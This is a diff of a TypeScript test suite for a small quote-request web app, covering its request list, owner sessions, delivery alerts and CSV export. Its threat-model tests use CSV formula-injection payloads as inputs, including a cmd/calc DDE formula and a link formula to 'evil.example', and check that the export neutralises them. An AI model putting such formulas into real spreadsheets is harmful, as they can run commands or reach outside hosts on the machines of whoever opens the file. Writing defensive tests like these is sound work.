@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { request as rawRequest } from 'node:http';
 import { HtmlValidate } from 'html-validate';
 import { parse } from 'node-html-parser';
@@ -60,6 +61,9 @@ const readArticles = ({ text }: Answer) =>
   parse(text)
     .querySelectorAll('article')
     .map(({ textContent }) => textContent);
+/** Reads what a browser would put into the only element of its kind, without the line break that HTML drops at its start. */
+const parseFragment = (text: string, name: string) => parse(text).querySelector(name)?.textContent.replace(/^\n/, '');
+const day = 24 * 60 * 60_000;
 const pageRules = new HtmlValidate({ extends: ['html-validate:standard'] });
 
 describe('the list', () => {
@@ -81,19 +85,26 @@ describe('the list', () => {
     expect(first).toContain('No email address');
     expect(first).toContain('Warehouse/Industrial');
     expect(second).toContain('Marge Olson');
-    for (const words of [
-      'Window Cleaning',
-      'Residential Home',
-      'one\ntwo',
-      'Nov 28, 2026, 9:07 AM MST',
-      'Kept here only',
-    ])
+    for (const words of ['Window Cleaning', 'Residential Home', 'one\ntwo', 'Today, 9:07 AM', '(719) 555-0188'])
       expect(second).toContain(words);
+    expect(answer.text.match(/Kept here only: neither mail/g)).toHaveLength(1);
     const links = parse(answer.text)
       .querySelectorAll('article a')
       .map((link) => link.getAttribute('href'));
     expect(links).toContain('tel:+17195550188');
-    expect(links).toContain('mailto:dana@example.com?subject=Your%20quote%20request');
+    const mail = new URL(links.find((link) => link?.startsWith('mailto:dana@')) ?? '');
+    expect([mail.pathname, mail.searchParams.get('subject')]).toEqual(['dana@example.com', 'Your quote request']);
+    expect(mail.searchParams.get('body')).toBe(
+      [
+        'Hello Marge Olson,',
+        '',
+        '',
+        'You asked us:',
+        '> Window Cleaning, Residential Home',
+        '> 1200 Example Ave, Colorado Springs',
+        '> one two',
+      ].join('\r\n'),
+    );
     expect(links).toContain(
       'https://www.google.com/maps/search/?api=1&query=1200%20Example%20Ave%2C%20Colorado%20Springs',
     );
@@ -160,6 +171,20 @@ describe('the list', () => {
     expect((await ask(site, `/requests/${id}`, { cookie })).text).toContain('END');
   });
 
+  test('opens a long message without script, and shows a short one whole', async () => {
+    const { site, cookie } = await startSignedIn();
+    await addRequest(site, { message: 'Two windows.' });
+    const message = 'Fourteen windows on two stories, hard water on the south side. '.repeat(4).trim();
+    await addRequest(site, { message });
+    const [long, short] = parse((await ask(site, '/requests', { cookie })).text).querySelectorAll('article');
+    expect(long?.querySelector('details .message')?.textContent).toBe(message);
+    expect(long?.querySelector('summary')?.textContent).toMatch(/^Fourteen .{50,90}… The whole message$/);
+    expect([short?.querySelector('details'), short?.querySelector('.message')?.textContent]).toEqual([
+      null,
+      'Two windows.',
+    ]);
+  });
+
   test('leaves the request of the launch check out', async () => {
     const { site, cookie } = await startSignedIn();
     await addRequest(site, { name: 'Launch check, please ignore' });
@@ -171,6 +196,120 @@ describe('the owner', () => {
   test('signs in with a password that was pasted with a space', async () => {
     const site = await startWithPage();
     expect((await signInWith(site, ` ${requestsPassword}\n`)).status).toBe(303);
+  });
+
+  test('saves the note with the mark when both come from the page of a request', async () => {
+    const { site, cookie } = await startSignedIn();
+    const id = await addRequest(site);
+    const form = parse((await ask(site, `/requests/${id}`, { cookie })).text).querySelector('form:has(#note)');
+    expect(form?.querySelectorAll('.main')).toHaveLength(1);
+    const action = form?.querySelector('[formaction]')?.getAttribute('formaction') ?? '';
+    await ask(site, action, { cookie, form: { note: 'Booked for Tuesday' } });
+    const [done] = readArticles(await ask(site, '/requests?show=done', { cookie }));
+    expect(done).toContain('Booked for Tuesday');
+    await ask(site, `/requests/${id}/new`, { cookie, form: {} });
+    expect(readArticles(await ask(site, '/requests', { cookie }))[0]).toContain('Booked for Tuesday');
+  });
+
+  test('stays signed in when the server restarts', async () => {
+    const { site, cookie } = await startSignedIn();
+    await site.close();
+    const restarted = await startWithPage({ quotesDirectory: site.quotesDirectory });
+    expect((await ask(restarted, '/requests', { cookie })).status).toBe(200);
+    await ask(restarted, '/requests/sign-out', { cookie, form: {} });
+    await restarted.close();
+    const again = await startWithPage({ quotesDirectory: site.quotesDirectory });
+    expect((await ask(again, '/requests', { cookie })).status).toBe(303);
+  });
+
+  test.each([
+    ['note', 'Booked "Tuesday"\n& paid'],
+    ['done', 'Booked'],
+  ])('keeps the note of a form with the button %s that was sent after the sign-in had ended', async (action, note) => {
+    const { site, cookie } = await startSignedIn();
+    const id = await addRequest(site);
+    await ask(site, '/requests/sign-out', { cookie, form: {} });
+    const refused = await ask(site, `/requests/${id}/${action}?show=all`, { cookie, form: { note } });
+    expect(refused.text).toContain('You were signed out. Sign in, and your note is saved.');
+    const readForm = ({ text }: Answer) => {
+      const form = parse(text).querySelector('form');
+      const fields = form
+        ?.querySelectorAll('input[type=hidden]')
+        .map((input) => [input.attrs['name'], input.attrs['value']]);
+      const typed = parseFragment(text, 'textarea');
+      return { path: form?.getAttribute('action') ?? '', form: { ...Object.fromEntries(fields ?? []), note: typed } };
+    };
+    const first = readForm(refused);
+    const mistyped = await ask(site, first.path, { form: { ...first.form, password: 'wrong' } });
+    expect(mistyped.status).toBe(403);
+    const second = readForm(mistyped);
+    const answer = await ask(site, second.path, { form: { ...second.form, password: requestsPassword } });
+    expect(answer.headers.location).toBe(
+      action === 'note' ? `/requests/${id}?show=all&saved=` : `/requests?show=all&marked=${id}#marked`,
+    );
+    const shown = await ask(site, `/requests/${id}`, { cookie: getCookie(answer) });
+    expect(parseFragment(shown.text, 'textarea')).toBe(note);
+    expect(shown.text).toContain(action === 'done' ? 'Mark as new' : 'Mark as done');
+  });
+
+  test('finds a request that is done from the list of new ones, and is led there from an empty tab', async () => {
+    const { site, cookie } = await startSignedIn();
+    const id = await addRequest(site);
+    await ask(site, `/requests/${id}/done`, { cookie, form: {} });
+    const form = parse((await ask(site, '/requests', { cookie })).text).querySelector('form[role=search]');
+    expect(form?.querySelector('input[name=show]')?.getAttribute('value')).toBe('all');
+    expect(readArticles(await ask(site, '/requests?show=all&search=0188', { cookie }))).toHaveLength(1);
+    const empty = parse((await ask(site, '/requests?search=0188', { cookie })).text);
+    expect(empty.textContent).toContain('No new requests with “0188”. Show 1 that is done Clear the search');
+    const tabs = empty.querySelectorAll('.tabs a').map(({ textContent }) => textContent);
+    expect(tabs).toEqual(['New (0)', 'Done (1)', 'All (1)']);
+    const link = empty.querySelectorAll('.row a').find(({ textContent }) => textContent.startsWith('Show 1'));
+    expect(readArticles(await ask(site, link?.getAttribute('href') ?? '', { cookie }))).toHaveLength(1);
+  });
+
+  test('reads above a request that it is new again, with a link to it', async () => {
+    const { site, cookie } = await startSignedIn();
+    await addRequest(site, { name: 'Tom Hale' });
+    const id = await addRequest(site);
+    await addRequest(site, { name: 'Marge Olson' });
+    const { text } = await ask(site, `/requests?marked=${id}`, { cookie });
+    const items = parse(text)
+      .querySelectorAll('ol > li')
+      .map((item) => item.querySelector('h2, .status')?.textContent.trim().split('\n')[0]);
+    expect(items).toEqual(['Marge Olson', 'Dana Reyes is new again.', 'Dana Reyes', 'Tom Hale']);
+    expect(parse(text).querySelector('.status a')?.getAttribute('href')).toBe(`/requests/${id}`);
+  });
+
+  test.each([
+    [
+      'mail',
+      'the password was refused (535)',
+      'Mail has not reached you since Nov 28, 5:39 AM: the password was refused (535). 2 requests wait. Check the password in QUOTE_MAIL_URL; Gmail and others want an app password. Then restart.',
+    ],
+    [
+      'forward',
+      'answered 404',
+      'Your automation has received nothing since Nov 28, 5:39 AM: answered 404. 2 requests wait. It is tried again by itself. If that does not help, check QUOTE_FORWARD_URL. Then restart.',
+    ],
+  ])('reads at the top of the list that %s fails, since when, why and what to do', async (target, error, sentences) => {
+    const { site, cookie } = await startSignedIn({ now: () => Date.parse('2026-11-28T16:07:00Z') });
+    const ids = [await addRequest(site), await addRequest(site)];
+    const database = openWhileServing(site.quotesDirectory);
+    for (const id of ids)
+      database.prepare(`INSERT INTO deliveries VALUES (?, ?, 'waiting', 0, 1, 1e15, '', 0)`).run(id, target);
+    database
+      .prepare(`INSERT INTO failing_targets VALUES (?, ?, 1, 1e15, ?, 0, '')`)
+      .run(target, Date.parse('2026-11-28T12:39:00Z'), error);
+    database.close();
+    const alerts = () =>
+      ask(site, '/requests', { cookie }).then(({ text }) => parse(text).querySelectorAll('[role=alert]'));
+    expect((await alerts()).map(({ textContent }) => textContent)).toEqual([sentences]);
+    const list = readArticles(await ask(site, '/requests', { cookie }));
+    for (const card of list) expect(card).not.toContain(error);
+    const mended = openWhileServing(site.quotesDirectory);
+    mended.exec(`DELETE FROM failing_targets`);
+    mended.close();
+    expect(await alerts()).toEqual([]);
   });
 
   test('marks a request as done and takes it back', async () => {
@@ -273,12 +412,12 @@ describe('the spreadsheet', () => {
     await ask(site, `/requests/${id}/note`, { cookie, form: { note: 'Booked' } });
     const answer = await ask(site, '/requests/requests.csv?show=all', { cookie });
     expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(answer.headers['content-disposition']).toBe('attachment; filename="requests.csv"');
+    expect(answer.headers['content-disposition']).toBe('attachment; filename="requests-2026-11-28.csv"');
     const [headings = [], cells = []] = readCsv(answer.text);
     const row = Object.fromEntries(headings.map((heading, column) => [heading, cells[column]]));
     expect(row).toMatchObject({
       'Received (Denver time)': '2026-11-28 09:07',
-      State: 'New',
+      Status: 'New',
       Name: 'Dana Reyes',
       Phone: '(719) 555-0188',
       Service: 'Window Cleaning',
@@ -300,12 +439,20 @@ describe('the spreadsheet', () => {
     ).toEqual(['Tom Hale']);
   });
 
+  test('leaves a message with dashes and commas as it came', async () => {
+    const { site, cookie } = await startSignedIn();
+    const message = 'Two jobs:\n- gutters, -2 panes\n- the door = new, @home';
+    await addRequest(site, { message });
+    expect(readCsv((await ask(site, '/requests/requests.csv', { cookie })).text)[1]).toContain(message);
+  });
+
   test.each([
     ['7195550142', '(719) 555-0142'],
     ['+1 719-555-0142 ext. 3', '(719) 555-0142 ext. 3'],
     ['+44 20 7946 0958', "'+44 20 7946 0958"],
     ['0123456', "'0123456"],
     ['ask for Tom, 555', 'ask for Tom, 555'],
+    ['719-555-0142, ask for Tom', '719-555-0142, ask for Tom'],
   ])('keeps the phone number %s as text', (phone, cell) => expect(formatPhone(phone)).toBe(cell));
 });
 
@@ -391,20 +538,49 @@ describe('the threat model', () => {
   test('strangers: a post without a session changes nothing', async () => {
     const site = await startWithPage();
     const id = await addRequest(site);
-    for (const action of ['done', 'note', 'delete']) {
-      const { status, headers } = await ask(site, `/requests/${id}/${action}`, { form: { note: 'mine' } });
-      expect([status, headers.location]).toEqual([303, '/requests/sign-in']);
+    for (const action of ['done', 'new', 'note', 'delete']) {
+      const { status, text } = await ask(site, `/requests/${id}/${action}`, { form: { note: 'mine' } });
+      expect(status).toBe(action === 'delete' ? 303 : 403);
+      expect(text).not.toContain('Dana');
+      const kept = { password: 'wrong', request: id, action, note: 'mine' };
+      expect((await ask(site, '/requests/sign-in', { form: kept })).status).toBe(403);
     }
     expect(readStored(site.quotesDirectory)).toHaveLength(1);
     const cookie = await signIn(site);
-    expect((await ask(site, `/requests/${id}`, { cookie })).text).not.toContain('mine');
+    const { text } = await ask(site, `/requests/${id}`, { cookie });
+    expect(text).not.toContain('mine');
+    expect(text).toContain('Mark as done');
   });
 
-  test('strangers: a session ends after two weeks, and no body is read before there is one', async () => {
-    let monotonic = 0;
-    const { site, cookie } = await startSignedIn({ monotonic: () => monotonic });
-    monotonic = 14 * 24 * 60 * 60_000;
-    expect((await ask(site, '/requests', { cookie })).status).toBe(303);
+  test('strangers: a session ends after two weeks, and by a clock that was set back', async () => {
+    const start = Date.parse('2026-11-28T16:07:00Z');
+    let time = start;
+    const { site, cookie } = await startSignedIn({ now: () => time });
+    const statuses: number[] = [];
+    for (time of [start + 14 * day - 1, start + 14 * day, start - 1])
+      statuses.push((await ask(site, '/requests', { cookie })).status);
+    expect(statuses).toEqual([200, 303, 303]);
+  });
+
+  test('strangers: a session ends with another password, and the database has nothing to sign in with', async () => {
+    const { site, cookie } = await startSignedIn();
+    const database = openWhileServing(site.quotesDirectory);
+    const [stored] = database.prepare('SELECT token_hash AS hash FROM owner_sessions').all();
+    database.close();
+    const token = cookie.slice('requests='.length);
+    expect(stored?.['hash']).toMatch(/^[\w+/]{43}=$/);
+    for (const encoding of ['base64', 'base64url'] as const) {
+      expect(stored?.['hash']).not.toBe(createHash('sha256').update(token).digest(encoding));
+      expect(stored?.['hash']).not.toContain(token);
+    }
+    await site.close();
+    const { quotesDirectory } = site;
+    const other = await startWithPage({ quotesDirectory, requestsPassword: 'another four random words' });
+    expect((await ask(other, '/requests', { cookie })).status).toBe(303);
+  });
+
+  test('strangers: no body that is longer than a note is read before there is a session', async () => {
+    const site = await startWithPage();
     // Half a body: who waits for the rest of it would not answer yet.
     const status = await new Promise((resolve, reject) => {
       const headers = {
@@ -527,18 +703,22 @@ describe('the threat model', () => {
       name: formula,
       phone: '+1+cmd|5550188',
       address: `@SUM(1)`,
-      message: `one\n-2+3`,
+      message: `one\n-cmd|x`,
       service: '=1+1',
       [formula]: formula,
     });
     await ask(site, `/requests/${id}/note`, { cookie, form: { note: `\t${formula}` } });
     const { text } = await ask(site, '/requests/requests.csv', { cookie });
+    await addRequest(site, { message: `one,;@SUM(1)\n=cmd|' /C calc'!A0` });
+    await addRequest(site, { message: `one;='//evil.example/[a.xls]b'!A1` });
     for (const sign of ['＝', '＋', '－', '＠', '\r=', '\t+', ' \u200b-', ';@'])
       await addRequest(site, { name: `${sign}1+1`, message: `one,${sign}1+1` });
     const { text: full } = await ask(site, '/requests/requests.csv', { cookie });
-    for (const cell of readCsv(full).flat()) expect(cell).not.toMatch(/(^|[\s;,|])[\s"\u200b]*[=+\-@＝＋－＠]1/);
+    for (const cell of readCsv(full).flat()) expect(cell).not.toMatch(/^[\s;,|"\u200b]*[=+\-@＝＋－＠]1/);
     for (const cell of readCsv(text).flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@]|[\t\n;,|]\s*[=+\-@]/);
     expect(text).toContain("'=HYPERLINK");
+    expect(full).toContain("one;'='//evil");
+    expect(full).toContain("one,;'@SUM(1)\n'=cmd|");
   });
 
   test('HTML in a request: it is shown as text, in every field, the note and the search', async () => {
